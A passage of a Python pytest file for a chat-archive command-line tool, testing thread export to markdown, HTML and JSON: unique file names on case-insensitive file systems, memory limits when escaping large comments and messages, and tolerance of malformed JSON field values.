    assert f"**Output**\n\n{ticks}\n{output}\n{ticks}\n" in text


@pytest.mark.parametrize("fmt", ["markdown", "html", "json"])
def test_a_later_export_into_the_same_directory_keeps_each_threads_page(
    tmp_path: Path, fmt: str
) -> None:
    """A thread's file name took the other threads of the same run into account only:
    ``t`` and ``T`` (one day, one name) exported together were ``…-t`` and ``…-T-2``,
    and ``T`` exported alone later into the same directory became ``…-T`` again: the
    page of ``t`` on a file system that ignores case (macOS, Windows), a second page of
    ``T`` elsewhere. The pages already there count as taken by their threads. (Such a
    pair is no longer made, but an earlier release's archive may hold one: made here
    in two archives, put together.)"""
    root = tmp_path / "chats"
    for n, thread_id in enumerate(("t", "T")):
        store = ArchiveStore(tmp_path / f"part-{n}")
        _message(store, thread_id, f"s{n}", f"words of {thread_id}")
        store.update_thread(thread_id, name="Hello")
        store.close()
    shutil.copytree(tmp_path / "part-0", root)
    shutil.copytree(tmp_path / "part-1" / "threads" / "T", root / "threads" / "T")
    out = tmp_path / "out"
    base = ["--root", str(root), "export", "--format", fmt, "-o", str(out)]
    assert main([*base, "t", "T"]) == 0
    before = sorted(p.name for p in out.iterdir())
    for alone in ("T", "t"):
        assert main([*base, alone]) == 0
        assert sorted(p.name for p in out.iterdir()) == before
    for page in out.iterdir():
        text = page.read_text()
        owner = "T" if "words of T" in text else "t"
        assert f"words of {owner.swapcase()}" not in text
        assert page.stem.endswith(f"-{owner}" if owner == "t" else "-T-2")


def test_a_long_comment_is_written_to_the_html_page_in_pieces(tmp_path: Path) -> None:
    """A rating's comment was escaped whole and copied into its step's closing piece
    again: eight times its size, seventeen with signs to escape, beside the thread
    (hundreds of megabytes for a 20 MB comment). It goes into the page in pieces."""
    import tracemalloc

    from filelayer.export.html import html_pieces

    size = 2_000_000
    text = " a<b&c" * (size // 6)
    store = ArchiveStore(tmp_path)
    _message(store, "t", "s1", "hi")
    store.upsert_feedback(for_id="s1", value=0, comment=text, thread_id="t")
    thread = store.get_thread("t")
    store.close()
    assert thread is not None
    tracemalloc.start()
    try:
        escaped = sum(piece.count("&lt;") for piece in html_pieces(thread, {}))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert escaped == size // 6
    assert peak < 2 * size, peak / size


@pytest.mark.parametrize("unit", ["a line of text\n", "- item\n  more of it\n"])
def test_a_message_of_many_lines_is_made_into_html_a_line_at_a_time(unit: str) -> None:
    """The HTML of a message split it into all of its lines first and joined every
    paragraph and list whole: ten times the text for a message of short lines, thirty
    for a long list (hundreds of megabytes for a 20 MB message). Its lines are read
    and its paragraphs and lists written one line at a time."""
    import tracemalloc

    from filelayer.export.html import html_pieces

    size = 1_000_000
    text = unit * (size // len(unit))
    thread = {"id": "t", "steps": [{"id": "s", "type": "assistant_message", "output": text}]}
    tracemalloc.start()
    try:
        written = sum(len(piece) for piece in html_pieces(thread, {}))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert written > size
    assert peak < 3 * size, peak / size


def test_an_export_into_a_full_directory_reads_only_the_pages_of_its_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whose a page already there is, is read only for a page that has a name the
    export is about to take: one thread exported into a directory of a hundred
    thousand pages does not read each of them."""
    import filelayer.cli.export as export_command

    root = tmp_path / "chats"
    store = ArchiveStore(root)
    _message(store, "t", "s1", "words")
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    for n in range(200):
        (out / f"2020-01-01-other-x{n}.md").write_text('---\nid: "x"\n')
    read: list[Path] = []
    owner = export_command._owner
    monkeypatch.setattr(export_command, "_owner", lambda p, f: read.append(p) or owner(p, f))
    assert main(["--root", str(root), "export", "t", "-o", str(out)]) == 0
    assert read == []
    assert main(["--root", str(root), "export", "t", "-o", str(out)]) == 0
    assert [p.name for p in read] == [p.name for p in out.glob("*-t.md")]


@pytest.mark.parametrize(
    ("op", "item", "field", "value"),
    [
        ("step", "s1", "type", ["user_message"]),
        ("element", "e1", "forId", {"id": "s1"}),
        ("element", "e1", "type", ["image"]),
    ],
)
def test_a_line_holding_a_list_or_object_where_text_is_expected_is_read_by_every_command(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    op: str,
    item: str,
    field: str,
    value: object,
) -> None:
    """Lines another program or an earlier release wrote may hold any JSON value: a
    list as a step's type or an object as an element's step was looked up in a set of
    names, and reindex, verify, show and both exports failed with "unhashable type"."""
    root = tmp_path / "chats"
    store = ArchiveStore(root)
    _message(store, "t1", "s1", "hello")
    store.put_element("t1", {"id": "e1", "type": "image", "name": "a.png", "forId": "s1"}, b"x")
    store.close()
    journal_file = root / "threads" / "t1" / "steps.jsonl"
    records = [json.loads(line) for line in journal_file.read_text("utf-8").splitlines()]
    for record in records:
        if record.get("op") == op and record[op]["id"] == item:
            record[op][field] = value
    journal_file.write_text(
        "".join(json.dumps(r, separators=(",", ":"), sort_keys=True) + "\n" for r in records),
        "utf-8",
    )
    for command in (["reindex"], ["verify"], ["show", "t1"]):
        assert main(["--root", str(root), *command]) == 0, capsys.readouterr()
    for fmt in ("markdown", "html"):
        out = tmp_path / f"out-{fmt}"
        code = main(["--root", str(root), "export", "t1", "--format", fmt, "-o", str(out)])
        assert code == 0, capsys.readouterr()
        assert len(list(out.iterdir())) >= 1
